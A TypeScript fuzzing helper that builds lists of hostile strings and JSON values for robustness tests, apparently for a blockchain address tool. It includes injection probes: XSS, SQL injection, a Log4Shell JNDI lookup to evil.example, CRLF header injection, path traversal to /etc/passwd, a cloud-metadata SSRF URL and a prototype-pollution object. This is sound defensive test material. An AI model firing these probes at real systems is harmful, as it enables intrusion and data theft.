/** Hostile inputs: strings and values of every JSON type, and extremes within types. */
import type { Pools } from "./pools.ts";
import { pick, type Rng } from "./random.ts";

/** Strings that have broken parsers, loggers, URL builders and terminals before. */
export function hostileStrings(pools: Pools): string[] {
  const address = pools.addresses[0] ?? "11111111111111111111111111111111";
  return [
    "",
    " ",
    "\u0000",
    "null",
    "undefined",
    "NaN",
    "-1",
    "18446744073709551616",
    "0x41",
    "\u202eRTL override",
    "zero\u200bwidth",
    "\ufeffBOM",
    "\ud800 lone surrogate",
    "🦀🔥".repeat(500),
    "é".normalize("NFD"),
    "a".repeat(100_000),
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, literally
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%00%0d%0aSet-Cookie: x=1",
    "\r\nX-Injected: 1",
    "../../../../etc/passwd",
    "http://evil.example/",
    "https://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:1/",
    "file:///etc/passwd",
    "//evil.example",
    "localnet,http://evil.example",
    "mainnet ",
    "MAINNET",
    "localnet\u0000",
    `${address}?api-key=x`,
    `${address}@evil.example`,
    `http://evil.example/${address}`,
    `${address}\n${address}`,
    // Cyrillic "А" in place of a Latin one: looks like an address, is not base58.
    address.replace(/[A-Z]/, "А"),
    address.slice(0, -1),
    `${address}1`,
    "0OIl".repeat(11),
  ];
}

/** Values of every JSON type, and extremes within types. */
export function hostileValues(rng: Rng, pools: Pools): unknown[] {
  const strings = hostileStrings(pools);
  return [
    null,
    true,
    false,
    0,
    -0,
    -1,
    1.5,
    2 ** 53 + 1,
    -(2 ** 63),
    1e308,
    -1e308,
    5e-324,
    pick(rng, strings),
    pick(rng, strings),
    [],
    [null],
    {},
    { toString: "x", valueOf: 1 },
    JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
    Array.from({ length: 10_000 }, (_, i) => i),
    Array.from({ length: 200 }, () => pick(rng, pools.addresses)),
    nested(200),
  ];
}

export function nested(depth: number): unknown {
  let value: unknown = "bottom";
  for (let i = 0; i < depth; i++) value = i % 2 ? [value] : { a: value };
  return value;
}
